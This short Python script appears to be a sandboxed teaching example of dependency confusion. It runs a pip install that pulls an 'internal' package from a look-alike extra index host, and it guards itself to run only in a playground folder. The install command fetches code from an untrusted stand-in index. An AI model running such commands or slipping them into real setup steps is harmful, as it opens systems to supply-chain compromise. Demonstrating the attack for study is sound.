# A setup step that installs an "internal" package from a look-alike index (dependency confusion).
# Do not trust it: look at the Attempts tab after running it.
# (It refuses to run outside Sandbox Playground, where /work is its folder.)
import os
import subprocess
import sys

if os.getcwd() != "/work":
    sys.exit("this example only runs inside Sandbox Playground")

command = "pip install --extra-index-url https://pypi.acme-internal.test/simple acme-billing-utils"
try:
    subprocess.run(command, shell=True, check=True)
except (OSError, subprocess.CalledProcessError) as exc:
    print("setup step failed:", exc)
print("setup done")
